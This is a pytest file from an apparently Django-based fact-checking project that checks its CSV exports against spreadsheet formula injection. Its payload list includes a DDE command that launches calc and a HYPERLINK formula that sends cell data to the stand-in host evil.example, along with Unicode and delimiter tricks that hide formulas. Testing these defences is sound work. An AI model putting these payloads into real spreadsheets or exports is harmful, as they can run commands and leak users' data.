"""No cell of a table that we give out runs as a formula in a spreadsheet, and a number in it stays one (OWASP, CSV)."""

import csv
import io
import re
import string
from datetime import date
from unicodedata import normalize

import pytest
from django.core.management import call_command

from corroboration.export import KINDS
from corroboration.formats import FORMULA_STARTS, csv_table
from tests import factories
from tests.people import make_checker
from tests.security.patterns import ROOT, sources

FORMULAS = [f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS] + [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "  =1+1",
    *("＝1+1", "＋1", "－1+1", "＠sum", "﹦1+1", "﹢1", "﹣1", "﹫sum"),
    *("\u200b=1+1", "\ufeff=1+1", "\u200e+1", "\u00ad-1+1", "\x00=1+1", "\u2060\u00a0@sum", "\u034f=1+1"),
    "\u3000＝1+1",
    "a\r=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    'a",=1+1',
    '";=1+1;"',
    "a,\r-2+3",
]
UNSEEN = "\u200b\ufeff\u200e\u00ad\x00\u2060\u00a0\u034f\u3000"
DELIMITERS = ",;\t|"  # what programs take for the border of two cells, each in some country


def cells(text: str) -> list[str]:
    """All cells of a table, as each kind of program would divide it."""
    found = []
    for delimiter in DELIMITERS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += row
    return found


def runs(cell: str) -> bool:
    shown = normalize("NFKC", cell.lstrip(UNSEEN + string.whitespace)[:1])
    begun = cell.startswith(FORMULA_STARTS) or shown in ("=", "+", "-", "@")
    return begun and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_a_formula_in_the_program_that_our_tables_are_for(text):
    table = "".join(csv_table([{"a": text, "b": text}], ["a", "b"]))
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert len(rows) == 2 and [len(row) for row in rows] == [2, 2]
    assert not any(runs(cell) for row in rows for cell in row)
    assert all(cell.removeprefix("'") == text for cell in rows[1])


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_holds_somebody_elses_border_stands_in_quotes(text):
    """So that a program that divides at any of them, as LibreOffice does unless told otherwise, sees one cell."""
    table = "".join(csv_table([{"a": text}], ["a"]))
    if set(text) & set(DELIMITERS + '\r\n"'):
        assert table.removeprefix("a\n").startswith('"') and table.endswith('"\n')


def test_numbers_stay_numbers():
    line = {"mean": -0.25, "count": 12, "none": None, "yes": True, "nested": [-1, 2]}
    assert "".join(csv_table([line], list(line))).splitlines()[1] == '-0.25,12,,true,"[-1, 2]"'


@pytest.fixture
def evil(db) -> None:
    """Rows of every kind that is given out, all words of which are formulas."""
    formula = FORMULAS[0]
    source = factories.make_source(formula, slug="evil", aliases=[formula], notes=formula)
    article = factories.make_article(
        source, f"{formula} {formula}. He said so.", title=formula, wire=formula, via=formula, external_id=formula
    )
    claim = factories.make_claim(article, formula, statement=formula, chain=[(source, formula)], slot=formula)
    other = factories.make_claim(article, "He said so", statement=formula)
    factories.make_cluster([claim, other], title=formula, place=formula)
    factories.make_relation(other, claim, type=formula, reasons=[formula], evidence=[formula])
    factories.make_assessment(claim, reasons=[formula])
    factories.make_record(source, reasons=[formula])
    factories.make_ledger_entry(source, claim, reason=formula)
    factories.make_decision([claim], reason=formula, value={"text": formula})


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_nothing_that_is_exported_runs(kind, evil, client):
    out = io.StringIO()
    call_command("export", kind, "--format", "csv", stdout=out, stderr=io.StringIO())
    client.force_login(make_checker())
    by_api = b"".join(client.get(f"/api/v1/exports/{kind}/?format=csv").streaming_content).decode()
    for table in (out.getvalue(), by_api):
        rows = list(csv.reader(io.StringIO(table, newline="")))
        assert len(rows) > 1
        assert {len(row) for row in rows} == {len(rows[0])}
        assert not [cell for row in rows for cell in row if runs(cell)]


def test_nor_does_a_ledger(evil, client):
    answer = client.get(f"/api/v1/sources/evil/ledger/?format=csv&as_of={date(2022, 1, 1)}")
    table = b"".join(answer.streaming_content).decode()
    assert "cmd|" in table
    assert not [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row if runs(cell)]


def test_one_module_alone_writes_tables():
    writing = re.compile(r"csv\.(?:writer|DictWriter)\(|text/csv")
    found = {str(path.relative_to(ROOT)) for path in sources() if writing.search(path.read_text(encoding="utf-8"))}
    assert found == {"corroboration/api/exports.py", "corroboration/api/records.py"}, "which stream csv_table()"
